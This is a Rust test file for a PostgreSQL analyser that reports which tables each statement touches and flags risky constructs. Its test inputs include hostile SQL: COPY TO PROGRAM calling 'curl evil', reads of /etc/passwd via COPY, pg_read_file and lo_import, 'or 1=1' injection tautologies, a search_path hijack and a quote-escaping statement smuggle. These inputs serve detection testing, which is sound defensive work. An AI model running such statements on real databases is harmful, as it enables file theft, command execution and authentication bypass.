//! Table-driven tests of the PostgreSQL analyser: what each statement touches, and how.

use postern_sql::pg::{analyse, split_search_path, LexSettings};
use postern_sql::{Action, SessionEffect, Statement, StatementFacts, StatementKind};

fn facts(sql: &str) -> Vec<Statement> {
    analyse(sql, LexSettings::default())
        .unwrap_or_else(|e| panic!("{sql}: {e}"))
        .statements
}

fn one(sql: &str) -> StatementFacts {
    let mut s = facts(sql);
    assert_eq!(s.len(), 1, "{sql}");
    match s.remove(0) {
        Statement::Analysed(f) => f,
        Statement::Unanalysable { reason, .. } => panic!("{sql}: unanalysable: {reason}"),
    }
}

fn action_name(a: Action) -> &'static str {
    match a {
        Action::Select => "select",
        Action::Insert => "insert",
        Action::Update => "update",
        Action::Delete => "delete",
        Action::Truncate => "truncate",
        Action::Lock => "lock",
        Action::Ddl => "ddl",
        Action::Execute => "execute",
        Action::Call => "call",
    }
}

/// "select s.t" strings, sorted.
fn accesses(sql: &str) -> Vec<String> {
    let mut v: Vec<String> = one(sql)
        .accesses
        .iter()
        .map(|a| format!("{} {}", action_name(a.action), a.object))
        .collect();
    v.sort();
    v
}

#[track_caller]
fn check(sql: &str, want: &[&str]) {
    let mut want: Vec<String> = want.iter().map(|s| s.to_string()).collect();
    want.sort();
    assert_eq!(accesses(sql), want, "{sql}");
}

#[test]
fn reads() {
    let cases: &[(&str, &[&str])] = &[
        ("select * from products", &["select products"]),
        ("SELECT * FROM Products", &["select products"]),
        ("select * from \"Products\"", &["select Products"]),
        ("select * from public.products", &["select public.products"]),
        ("select * from public . products", &["select public.products"]),
        ("select * from \"public\".\"products\"", &["select public.products"]),
        ("select * from shop.public.products", &["select shop.public.products"]),
        ("select * from U&\"\\0070roducts\"", &["select products"]),
        ("select * from /* x */ products -- y", &["select products"]),
        ("select 1", &[]),
        ("select now(), lower('X')", &[]),
        ("values (1), (2)", &[]),
        ("table orders", &["select orders"]),
        ("select * from only orders", &["select orders"]),
        ("select * from orders o join customers c on c.id = o.cid", &["select customers", "select orders"]),
        ("select * from orders, lateral (select * from items i where i.oid = orders.id) x", &["select items", "select orders"]),
        ("select * from a natural full join b cross join c", &["select a", "select b", "select c"]),
        ("select (select max(x) from secret) from products", &["select products", "select secret"]),
        ("select * from products where id in (select pid from orders)", &["select orders", "select products"]),
        ("select * from products where exists (select 1 from orders where orders.pid = products.id)", &["select orders", "select products"]),
        ("select * from products union select * from orders", &["select orders", "select products"]),
        ("select * from products union all (select * from orders except select * from returns)", &["select orders", "select products", "select returns"]),
        ("select * from products intersect select * from orders", &["select orders", "select products"]),
        ("select * from (select * from orders) sub", &["select orders"]),
        ("select * from products p, (values (1)) v(x)", &["select products"]),
        ("select count(*) filter (where x > (select 1 from t)) from products", &["select products", "select t"]),
        ("select array(select id from orders)", &["select orders"]),
        ("select case when true then (select 1 from orders) end", &["select orders"]),
        ("select * from products order by (select 1 from orders limit 1)", &["select orders", "select products"]),
        ("select * from products group by id having sum(x) > (select 1 from orders)", &["select orders", "select products"]),
        ("select * from products limit (select count(*) from orders)", &["select orders", "select products"]),
        ("select row_number() over (partition by x) from products", &["select products"]),
        ("select * from products tablesample system (10)", &["select products"]),
        ("select x::regclass from products", &["select products"]),
        ("select * from generate_series(1, 3)", &[]),
        ("select * from rows from (generate_series(1,2), unnest(array[1]))", &[]),
        ("select * from products where x = any (array(select id from orders))", &["select orders", "select products"]),
        ("select * from xmltable('/r' passing (select x from docs) columns a int)", &["select docs"]),
        ("select * from json_table((select j from docs), '$' columns (a int path '$.a'))", &["select docs"]),
        ("select (select 1 from (select * from deep) d where d.x = (select 2 from deeper)) from products", &["select deep", "select deeper", "select products"]),
    ];
    for (sql, want) in cases {
        check(sql, want);
    }
}

#[test]
fn ctes_are_scoped() {
    let cases: &[(&str, &[&str])] = &[
        ("with x as (select * from orders) select * from x", &["select orders"]),
        ("with orders as (select 1) select * from orders", &[]),
        // A CTE named like a table hides the table only where it is in scope.
        ("select * from (with orders as (select 1) select * from orders) a, orders", &["select orders"]),
        ("with orders as (select * from orders) select * from orders", &["select orders"]),
        ("with a as (select 1), b as (select * from a) select * from b", &[]),
        // A non-recursive CTE does not see itself or later CTEs: that `b` is a table.
        ("with a as (select * from b), b as (select 1) select * from a", &["select b"]),
        ("with recursive a as (select 1 union all select * from a) select * from a", &[]),
        ("with recursive a as (select * from b), b as (select 1) select * from a", &[]),
        ("with x as (select 1) select * from public.x", &["select public.x"]),
        ("with x as materialized (select * from secret) select * from x", &["select secret"]),
        ("with d as (delete from orders returning *) select * from d", &["delete orders", "select orders"]),
        ("with d as (delete from orders where id = 1 returning *) select * from d", &["delete orders", "select orders"]),
        ("with u as (update orders set x = 1 where id = 2 returning id) select * from u", &["select orders", "update orders"]),
        ("with i as (insert into log values (1) returning *) select * from i", &["insert log", "select log"]),
        ("with x as (select * from orders) insert into archive select * from x", &["insert archive", "select orders"]),
        ("with x as (select * from orders) update products set y = 1 from x where x.id = products.id", &["select orders", "select products", "update products"]),
        ("with x as (select id from orders) delete from products where id in (select id from x)", &["delete products", "select orders", "select products"]),
        ("select * from (with q as (select 1) select * from q) a join q on true", &["select q"]),
    ];
    for (sql, want) in cases {
        check(sql, want);
    }
}

#[test]
fn writes() {
    let cases: &[(&str, &[&str])] = &[
        ("insert into orders values (1)", &["insert orders"]),
        ("insert into public.orders (a, b) values (1, 2)", &["insert public.orders"]),
        ("insert into orders select * from products", &["insert orders", "select products"]),
        ("insert into orders values ((select max(id) from secret))", &["insert orders", "select secret"]),
        ("insert into orders values (1) returning id", &["insert orders", "select orders"]),
        ("insert into orders values (1) on conflict do nothing", &["insert orders"]),
        ("insert into orders values (1) on conflict (id) do update set x = excluded.x", &["insert orders", "select orders", "update orders"]),
        ("insert into orders default values", &["insert orders"]),
        ("update orders set x = 1", &["update orders"]),
        ("update orders set x = x + 1", &["select orders", "update orders"]),
        ("update orders set x = 1 where id = 3", &["select orders", "update orders"]),
        ("update orders set x = (select y from other) where id = 3", &["select orders", "select other", "update orders"]),
        ("update orders o set x = p.x from products p where p.id = o.pid", &["select orders", "select products", "update orders"]),
        ("update orders set x = 1 where id = 3 returning *", &["select orders", "update orders"]),
        ("delete from orders", &["delete orders"]),
        ("delete from orders where id = 1", &["delete orders", "select orders"]),
        ("delete from orders using customers c where c.id = orders.cid", &["delete orders", "select customers", "select orders"]),
        ("delete from only orders where current of cur", &["delete orders", "select orders"]),
        ("merge into orders o using staging s on o.id = s.id when matched then update set x = s.x when not matched then insert values (s.id)", &["insert orders", "select orders", "select staging", "update orders"]),
        ("merge into orders o using staging s on o.id = s.id when matched then delete", &["delete orders", "select orders", "select staging"]),
        ("truncate orders, public.items", &["truncate orders", "truncate public.items"]),
        ("truncate table orders restart identity cascade", &["truncate orders"]),
        ("lock table orders in exclusive mode", &["lock orders"]),
        ("select * from orders for update", &["lock orders", "select orders"]),
        ("select * from orders o join items i on true for update of o", &["lock orders", "select items", "select orders"]),
        ("select * from orders for share skip locked", &["lock orders", "select orders"]),
    ];
    for (sql, want) in cases {
        check(sql, want);
    }
}

#[test]
fn where_less_modifications_are_flagged() {
    for (sql, flagged) in [
        ("delete from orders", true),
        ("delete from orders where true", false),
        ("update orders set x = 1", true),
        ("update orders set x = 1 where id = 1", false),
        ("with d as (delete from orders returning 1) select 1", true),
        ("select * from orders", false),
        ("explain analyze delete from orders", true),
    ] {
        assert_eq!(one(sql).flags.modifies_without_where, flagged, "{sql}");
    }
}

#[test]
fn injected_tautologies_are_flagged() {
    for (sql, flagged) in [
        ("select * from users where name = 'x' or 1=1", true),
        ("select * from users where name = 'x' or 'a'='a'", true),
        ("select * from users where name = 'x' OR true", true),
        ("select * from users where id = 5 or id = id", true),
        (
            "select * from users where (name = 'x' or 2 = 2) and active",
            true,
        ),
        ("delete from users where name = '' or '1'='1'", true),
        ("select * from users where name = 'x' or 1=1::int", true),
        // Near misses: not always true, or not in an OR.
        ("select * from users where 1=1 and name = 'x'", false),
        ("select * from users where name = 'x' or 1=2", false),
        ("select * from users where name = 'x' or id = 1", false),
        ("select * from users where name = 'x' or a = b", false),
        ("select * from users where name = 'x' or false", false),
    ] {
        assert_eq!(one(sql).flags.tautology, flagged, "{sql}");
    }
}

#[test]
fn copy() {
    check("copy orders to stdout", &["select orders"]);
    check("copy orders (id, x) from stdin", &["insert orders"]);
    check(
        "copy (select * from orders join secret on true) to stdout",
        &["select orders", "select secret"],
    );
    let f = one("copy orders to program 'curl evil'");
    assert!(f.flags.copy_program);
    assert_eq!(f.kind, StatementKind::Copy);
    let f = one("copy orders from '/etc/passwd'");
    assert!(f.flags.copy_server_file && !f.flags.copy_program);
    assert!(!one("copy orders from stdin").flags.copy_server_file);
}

#[test]
fn functions_and_calls() {
    let f = one("select pg_read_file('/etc/passwd')");
    assert_eq!(f.functions.len(), 1);
    assert_eq!(f.functions[0].name, "pg_read_file");
    let f = one("select public.f(x) from products");
    assert_eq!(f.functions[0].to_string(), "public.f");
    let f = one("select * from public.srf(1)");
    assert_eq!(f.functions[0].to_string(), "public.srf");
    let f = one("select lo_import('/etc/passwd'), upper(name) from products");
    let names: Vec<_> = f.functions.iter().map(|o| o.name.as_str()).collect();
    assert_eq!(names, ["lo_import", "upper"]);
    check("call archive_orders(1)", &["call archive_orders"]);
    let f = one("call s.p((select 1 from secret))");
    assert!(f
        .accesses
        .iter()
        .any(|a| a.object.name == "secret" && a.action == Action::Select));
    assert!(
        one("select query_to_xml('select * from secret', true, true, '')")
            .flags
            .dynamic_sql
    );
    assert!(
        one("select * from dblink('host=x', 'select 1') as t(a int)")
            .flags
            .dynamic_sql
    );
    assert!(!one("select upper('x')").flags.dynamic_sql);
    // Functions in every position are found.
    for sql in [
        "select 1 where f() > 0",
        "select * from products order by f()",
        "insert into t values (f())",
        "update t set x = f() where true",
        "select * from t join u on f(t.x, u.y)",
        "select coalesce(null, f())",
        "select (f()).x",
        "select array[f()]",
    ] {
        assert!(one(sql).functions.iter().any(|o| o.name == "f"), "{sql}");
    }
}

#[test]
fn session_effects() {
    let s = |sql: &str| one(sql).session;
    assert_eq!(
        s("set search_path to a, \"B\""),
        [SessionEffect::SearchPath(vec!["a".into(), "B".into()])]
    );
    assert_eq!(
        s("set search_path = default"),
        [SessionEffect::SearchPathDefault]
    );
    assert_eq!(s("reset search_path"), [SessionEffect::SearchPathDefault]);
    assert_eq!(
        s("set local search_path to x"),
        [SessionEffect::SearchPathUnknown]
    );
    assert_eq!(
        s("set search_path from current"),
        [SessionEffect::SearchPathUnknown]
    );
    assert_eq!(
        s("set role admin"),
        [SessionEffect::SetRole(Some("admin".into()))]
    );
    assert_eq!(s("reset role"), [SessionEffect::SetRole(None)]);
    assert_eq!(
        s("set session authorization postgres"),
        [SessionEffect::SetSessionAuthorization(Some(
            "postgres".into()
        ))]
    );
    assert_eq!(
        s("set statement_timeout = 5"),
        [SessionEffect::Setting("statement_timeout".into())]
    );
    assert!(s("reset all").contains(&SessionEffect::SearchPathDefault));
    assert!(s("discard all").contains(&SessionEffect::SearchPathDefault));
    assert_eq!(
        s("select set_config('search_path', 'evil, public', false)"),
        [SessionEffect::SearchPath(vec![
            "evil".into(),
            "public".into()
        ])]
    );
    assert_eq!(
        s("select pg_catalog.set_config('role', 'admin', false)"),
        [SessionEffect::SetRole(Some("admin".into()))]
    );
    assert_eq!(
        s("select set_config('search_path', x, false) from t"),
        [SessionEffect::SearchPathUnknown]
    );
    assert!(
        s("select set_config(x, 'y', false) from t").contains(&SessionEffect::SearchPathUnknown)
    );
    assert_eq!(one("show search_path").kind, StatementKind::Session);
}

#[test]
fn statement_kinds_and_commands() {
    let cases = [
        ("select 1", StatementKind::Select, "SELECT"),
        ("insert into t values (1)", StatementKind::Insert, "INSERT"),
        ("begin", StatementKind::Transaction, "BEGIN"),
        (
            "start transaction isolation level serializable",
            StatementKind::Transaction,
            "BEGIN",
        ),
        ("commit", StatementKind::Transaction, "COMMIT"),
        (
            "rollback to savepoint a",
            StatementKind::Transaction,
            "ROLLBACK TO SAVEPOINT",
        ),
        ("savepoint a", StatementKind::Transaction, "SAVEPOINT"),
        (
            "do $$ begin execute 'drop table x'; end $$",
            StatementKind::DoBlock,
            "DO",
        ),
        (
            "create table t (id int)",
            StatementKind::Ddl,
            "CREATE TABLE",
        ),
        (
            "alter role bob password 'x'",
            StatementKind::Ddl,
            "ALTER ROLE",
        ),
        ("listen ch", StatementKind::Notify, "LISTEN"),
        ("notify ch, 'x'", StatementKind::Notify, "NOTIFY"),
        (
            "vacuum analyze orders",
            StatementKind::Maintenance,
            "VACUUM",
        ),
        ("checkpoint", StatementKind::Maintenance, "CHECKPOINT"),
        (
            "explain select * from orders",
            StatementKind::Explain,
            "EXPLAIN",
        ),
        ("prepare p as select 1", StatementKind::Prepare, "PREPARE"),
        ("execute p", StatementKind::Execute, "EXECUTE"),
        ("deallocate all", StatementKind::Deallocate, "DEALLOCATE"),
        (
            "declare c cursor for select * from orders",
            StatementKind::Select,
            "DECLARE CURSOR",
        ),
        ("fetch 10 from c", StatementKind::Select, "FETCH"),
    ];
    for (sql, kind, command) in cases {
        let f = one(sql);
        assert_eq!((f.kind, f.command.as_str()), (kind, command), "{sql}");
    }
    assert!(one("do $$ begin null; end $$").flags.dynamic_sql);
}

#[test]
fn prepare_execute_explain() {
    let f = one("prepare q(int) as select * from orders where id = $1");
    assert_eq!(f.prepared.as_deref(), Some("q"));
    assert_eq!(f.accesses.len(), 1);
    let f = one("execute q(1)");
    assert_eq!(f.prepared.as_deref(), Some("q"));
    assert!(f.accesses.is_empty());
    check("execute q((select x from secret))", &["select secret"]);
    assert_eq!(one("deallocate q").prepared.as_deref(), Some("q"));
    assert_eq!(one("deallocate all").prepared, None);
    check("explain select * from orders", &["select orders"]);
    check(
        "explain (analyze, buffers) delete from orders where id = 1",
        &["delete orders", "select orders"],
    );
    check(
        "declare c cursor for select * from secret",
        &["select secret"],
    );
}

#[test]
fn ddl() {
    let cases: &[(&str, &[&str])] = &[
        ("create table t (id int)", &["ddl t"]),
        (
            "create table s.t (id int references orders)",
            &["ddl orders", "ddl s.t"],
        ),
        (
            "create table t as select * from orders",
            &["ddl t", "select orders"],
        ),
        (
            "select * into newt from orders",
            &["ddl newt", "select orders"],
        ),
        (
            "create view v as select * from orders",
            &["ddl v", "select orders"],
        ),
        (
            "create materialized view mv as select * from orders",
            &["ddl mv", "select orders"],
        ),
        ("alter table orders add column x int", &["ddl orders"]),
        (
            "drop table orders, public.items",
            &["ddl orders", "ddl public.items"],
        ),
        ("drop view if exists v cascade", &["ddl v"]),
        ("drop function f(int)", &["ddl f"]),
        ("drop schema s cascade", &["ddl s.*"]),
        ("create index on orders (x)", &["ddl orders"]),
        ("alter table orders rename to o2", &["ddl orders"]),
        ("comment on table orders is 'x'", &["ddl orders"]),
        (
            "create function f() returns int language sql as 'select 1'",
            &["ddl f"],
        ),
        ("create schema s", &["ddl s.*"]),
        ("grant select on orders to bob", &["ddl *", "ddl orders"]),
        ("create role bob login password 'x'", &["ddl *"]),
        ("alter system set work_mem = '1GB'", &["ddl *"]),
        ("create extension dblink", &["ddl *"]),
        ("load 'auto_explain'", &["ddl *"]),
        (
            "create trigger tr before insert on orders for each row execute function f()",
            &["ddl orders"],
        ),
        ("refresh materialized view mv", &["ddl mv"]),
        ("vacuum orders", &["ddl orders"]),
        ("create sequence s1", &["ddl s1"]),
    ];
    for (sql, want) in cases {
        check(sql, want);
    }
    // Statements whose object is not a relation or name list still need DDL somewhere.
    for sql in [
        "drop cast (int as text)",
        "vacuum",
        "analyze",
        "reindex database shop",
        "cluster",
        "alter default privileges grant select on tables to bob",
    ] {
        let f = one(sql);
        assert!(
            f.accesses.iter().any(|a| a.action == Action::Ddl),
            "{sql}: {:?}",
            f.accesses
        );
    }
    assert_eq!(accesses("vacuum"), ["ddl *"]);
    assert!(one("drop table x").flags.drops);
    assert!(!one("create table x (a int)").flags.drops);
}

#[test]
fn multi_statement_strings() {
    let s = facts("select * from products; delete from orders; set role admin");
    assert_eq!(s.len(), 3);
    let kinds: Vec<_> = s
        .iter()
        .map(|s| match s {
            Statement::Analysed(f) => f.kind,
            Statement::Unanalysable { .. } => panic!("{s:?}"),
        })
        .collect();
    assert_eq!(
        kinds,
        [
            StatementKind::Select,
            StatementKind::Delete,
            StatementKind::Session
        ]
    );
    assert!(facts("").is_empty());
    assert!(facts(" ; ; ").is_empty());
    // Where a statement ends depends on how strings are lexed.
    let tricky = "select 'a\\'; delete from orders; --'";
    assert_eq!(facts(tricky).len(), 2);
    let old = analyse(
        tricky,
        LexSettings {
            standard_conforming_strings: false,
        },
    )
    .unwrap();
    assert_eq!(old.statements.len(), 1);
}

#[test]
fn syntax_errors_and_unanalysable() {
    for bad in [
        "selec 1",
        "select * from",
        "select 'unterminated",
        "delete orders",
    ] {
        assert!(analyse(bad, LexSettings::default()).is_err(), "{bad}");
    }
    let e = analyse("selec 1", LexSettings::default()).unwrap_err();
    assert!(e.to_string().contains("syntax error"), "{e}");
    // Statement types the analyser does not know are never guessed at.
    let s = facts("create conversion c for 'UTF8' to 'LATIN1' from f");
    assert!(matches!(&s[0], Statement::Analysed(_)));
    let s = facts("import foreign schema s from server x into public");
    assert!(matches!(&s[0], Statement::Analysed(_)));
    let s = facts("set constraints all deferred");
    match &s[0] {
        Statement::Unanalysable {
            command, reason, ..
        } => {
            assert_eq!(command, "ConstraintsSetStmt");
            assert!(reason.contains("not analysed"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn search_path_strings() {
    assert_eq!(split_search_path("a, B ,\"C d\""), ["a", "b", "C d"]);
    assert_eq!(split_search_path("\"$user\", public"), ["$user", "public"]);
    assert_eq!(split_search_path("\"x\"\"y\""), ["x\"y"]);
    assert!(split_search_path("").is_empty());
}

mod never_panics {
    use super::*;
    use proptest::prelude::*;

    /// Fragments that combine into statements the grammar mostly accepts, so the walker
    /// (not just the parser's error path) sees many shapes.
    fn sqlish() -> impl Strategy<Value = String> {
        const FRAGMENTS: &str = "select|*|from|t|s.t|where|x|=|1|(|)|,|union|with|a|as|insert|into|values|update|set|delete|join|on|true|f(|returning|'lit'|$1|;|for update|order by|lateral|copy|to|stdout|create|table|drop|explain|do|$$ $$|call|p()|recursive|merge|using|when|matched|then|\"Q\"|U&\"\\0061\"|--|/*|*/|limit|group by|having|exists";
        let frag = prop::sample::select(FRAGMENTS.split('|').collect::<Vec<_>>());
        prop::collection::vec(frag, 0..24).prop_map(|v| v.join(" "))
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]
        #[test]
        fn arbitrary_text(s in "\\PC{0,200}") {
            let _ = analyse(&s, LexSettings::default());
            let _ = analyse(&s, LexSettings { standard_conforming_strings: false });
        }

        #[test]
        fn sql_shaped_text(s in sqlish()) {
            if let Ok(a) = analyse(&s, LexSettings::default()) {
                for st in &a.statements {
                    if let Statement::Analysed(f) = st {
                        // Sorted and without duplicates, as documented.
                        prop_assert!(f.accesses.windows(2).all(|w| w[0] < w[1]));
                        prop_assert!(f.functions.windows(2).all(|w| w[0] < w[1]));
                    }
                }
            }
        }
    }
}

#[test]
fn deep_and_wide_statements_do_not_crash() {
    for depth in [50, 500, 5_000, 50_000] {
        let sql = format!("select {}1{}", "(".repeat(depth), ")".repeat(depth));
        // Too deep for the parser or the analyser: an error or "unanalysable", never a crash.
        match analyse(&sql, LexSettings::default()) {
            Ok(a) => assert_eq!(a.statements.len(), 1),
            Err(e) => assert!(!e.message.is_empty()),
        }
        let sql = format!(
            "select * from t where x in {}select 1 from secret{}",
            "(".repeat(depth),
            ")".repeat(depth)
        );
        if let Ok(a) = analyse(&sql, LexSettings::default()) {
            // Whatever depth it understood, it must not have lost the inner table.
            if let Statement::Analysed(f) = &a.statements[0] {
                assert!(
                    f.accesses.iter().any(|a| a.object.name == "secret"),
                    "{depth}"
                );
            }
        }
    }
    let wide = format!(
        "select * from t where x in ({})",
        vec!["1"; 20_000].join(",")
    );
    assert!(analyse(&wide, LexSettings::default()).is_ok());
}
